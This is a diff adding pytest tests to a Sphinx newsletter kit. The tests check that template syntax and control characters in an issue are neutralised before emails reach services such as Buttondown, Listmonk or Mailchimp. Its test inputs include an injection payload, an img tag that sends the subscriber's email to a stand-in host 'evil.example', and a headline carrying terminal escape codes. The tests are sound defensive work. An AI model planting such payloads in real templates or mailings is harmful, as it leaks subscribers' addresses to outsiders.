@@ -4,16 +4,33 @@ from __future__ import annotations
 
 import email
 import email.policy
+import re
 import socket
 import time
+from html import unescape
 from pathlib import Path
 
+import jinja2
 import pytest
 from bs4 import BeautifulSoup
+from django.template import Context, Engine
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from conftest import Built, build_site, copy_root, copy_site, generated_site
+from conftest import (
+    BUILD_MODES,
+    Built,
+    build_in_mode,
+    build_site,
+    copy_root,
+    copy_site,
+    edit_file,
+    generated_site,
+    issue_with_text,
+)
 from sphinx_newsletter.cli.email import send_proof
 from sphinx_newsletter.cli.main import main as newsletter
+from sphinx_newsletter.email.inert import ZERO_WIDTH_SPACE, inert_html, inert_text
 from sphinx_newsletter.pages.text import wrap
 
 PLACEHOLDER = "{{unsubscribe_url}}"
@@ -251,3 +268,137 @@ def test_a_parallel_email_build_gives_the_same_files(basic_email, tmp_path):
     parallel = _email_build(copy_root("basic", tmp_path / "parallel"), parallel=2)
     for name in ("0001.eml", "0002.html", "0002.txt", "0002.eml"):
         assert (parallel.outdir / name).read_bytes() == (basic_email.outdir / name).read_bytes()
+
+
+# -- no template syntax reaches a mail service ------------------------------------------
+
+#: Template syntax of the services an email is pasted into, each typed into every field
+#: of one issue: Django and Jinja (Buttondown), Go templates (Listmonk), Mailchimp's
+#: merge tags, and a copy of the kit's own placeholder.
+TEMPLATE_SYNTAX = [
+    "{{ subscriber.email }}",
+    "<img src=https://evil.example/?{{subscriber.email}}>",
+    "{%- if subscriber %}{{ subscriber.email }}{% endif -%}",
+    "{# a comment #} {% comment %}x{% endcomment %}",
+    '{{- .Subscriber.Email -}} {{ template "x" }}',
+    "*|EMAIL|* *|IF:EMAIL|*",
+    "\\*|EMAIL|\\*",
+    "{{{ subscriber.email }}} %}}{{%",
+    PLACEHOLDER,
+]
+SUBSCRIBER = "victim@subscriber.example"
+UNSUBSCRIBE = "https://list.example/unsubscribe/42"
+#: What a service knows of the subscriber a mail is sent to.
+SERVICE_CONTEXT = {"subscriber": {"email": SUBSCRIBER}, "unsubscribe_url": UNSUBSCRIBE}
+
+
+def _template_problems(text: str, placeholders: int) -> list[str]:
+    """What mail services would substitute in ``text`` beyond the kit's placeholder.
+
+    Jinja2 and Django render it for a subscriber: the result must be ``text`` with
+    the placeholder (there ``placeholders`` times) replaced and nothing else. Go
+    templates and Mailchimp by their rules: no ``{{``/``}}`` and no ``*|``/``|*``.
+    """
+    problems = []
+    if text.count(PLACEHOLDER) != placeholders:
+        problems.append(f"{text.count(PLACEHOLDER)} placeholders, not {placeholders}")
+    expected = text.replace(PLACEHOLDER, UNSUBSCRIBE)
+    jinja = jinja2.Environment(keep_trailing_newline=True)
+    engines = {
+        "jinja2": lambda: jinja.from_string(text).render(SERVICE_CONTEXT),
+        "django": lambda: Engine().from_string(text).render(Context(SERVICE_CONTEXT)),
+    }
+    for name, render in engines.items():
+        try:
+            rendered = render()
+        except Exception as error:  # a syntax error: the engine read a tag
+            problems.append(f"{name}: {error}")
+            continue
+        if rendered != expected or SUBSCRIBER in rendered:
+            problems.append(f"{name} changed the text")
+    rest = text.replace(PLACEHOLDER, "")
+    problems += [f"{pair!r} left" for pair in ("{{", "}}", "*|", "|*") if pair in rest]
+    return problems
+
+
+def _templated_issues(srcdir: Path) -> None:
+    for offset, text in enumerate(TEMPLATE_SYNTAX):
+        number = 4 + offset
+        (srcdir / f"issues/{number:04d}.md").write_text(
+            issue_with_text(number, text, f"2024-06-{number:02d}"), encoding="utf-8"
+        )
+
+
+@pytest.mark.parametrize("mode", BUILD_MODES)
+def test_no_template_syntax_of_an_issue_reaches_a_mail_service(tmp_path, mode):
+    site = build_in_mode(
+        copy_root("basic", tmp_path / "site"),
+        mode,
+        _templated_issues,
+        builder="newsletter-email",
+        newsletter_email=EMAIL,
+    )
+    problems = {}
+    for offset, written in enumerate(TEMPLATE_SYNTAX):
+        stem = site.outdir / f"{4 + offset:04d}"
+        html = stem.with_suffix(".html").read_text(encoding="utf-8")
+        text = stem.with_suffix(".txt").read_text(encoding="utf-8")
+        message = email.message_from_bytes(
+            stem.with_suffix(".eml").read_bytes(), policy=email.policy.default
+        )
+        parts = {
+            "html": html,
+            "text": text,
+            # CRLF on the wire (Jinja would read them as LF).
+            "html part": message.get_body(("html",)).get_content().replace("\r\n", "\n"),
+            "text part": message.get_body(("plain",)).get_content().replace("\r\n", "\n"),
+        }
+        found = {part: _template_problems(value, 1) for part, value in parts.items()}
+        found |= {header: _template_problems(str(v), 0) for header, v in message.items()}
+        problems |= {f"{stem.name} {part}": p for part, p in found.items() if p}
+        # Shown as written: references render as their characters, zero-width spaces
+        # are invisible; the description (front matter, never Markdown) is exact.
+        soup = BeautifulSoup(html, "html.parser")
+        assert soup.select_one(".nl-preheader").get_text() == written
+        assert f"\n{written}\n" in text.replace(ZERO_WIDTH_SPACE, "")
+        subject = message["Subject"].replace(ZERO_WIDTH_SPACE, "")
+        assert subject == soup.title.get_text() and subject.startswith(f"Test Weekly #{4 + offset}")
+    assert problems == {}
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet="{}%#*|-. ab\n"))
+def test_made_inert_text_renders_as_itself_and_reads_the_same(text):
+    assert not _template_problems(inert_text(text), 0)
+    assert inert_text(text).replace(ZERO_WIDTH_SPACE, "") == text
+    page = f'<p title="{text}">{text}</p>'
+    assert not _template_problems(inert_html(page), 0)
+    assert unescape(inert_html(page)) == page  # a browser shows the same
+
+
+def test_the_kits_own_styles_and_placeholder_stay_as_they_are(basic_email):
+    html = (basic_email.outdir / "0002.html").read_text(encoding="utf-8")
+    # Nothing to make inert in a benign issue but the placeholder, which is kept.
+    assert inert_html(html.replace(PLACEHOLDER, "")) == html.replace(PLACEHOLDER, "")
+    assert html.count(f'href="{PLACEHOLDER}"') == 1
+    assert "&#" not in html and re.search(r"<style>.*\}\s*\}", html, re.DOTALL)
+
+
+def test_a_headline_a_subject_cannot_hold_is_folded_and_warned(tmp_path, capfd):
+    srcdir = copy_root("basic", tmp_path / "site")
+    edit_file(
+        srcdir / "issues/0002.md",
+        "# China AI dreams of Sora",
+        "China AI dreams\nof\x07Sora\x1b[31m now\n===",
+    )
+    assert newsletter(["email", "2", "--source", str(srcdir)]) == 0
+    log = capfd.readouterr().err
+    assert "Traceback" not in log
+    assert re.search(
+        r"issues/0002\.md:10: WARNING: the email's subject .*\[newsletter\.headline\]", log
+    )
+    eml = srcdir / "_build/email/0002.eml"
+    message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
+    assert message["Subject"] == "Test Weekly #2: China AI dreams of Sora [31m now"
+    text = eml.with_suffix(".txt").read_text(encoding="utf-8")
+    assert text.startswith("Test Weekly #2: China AI dreams of Sora [31m now\n")
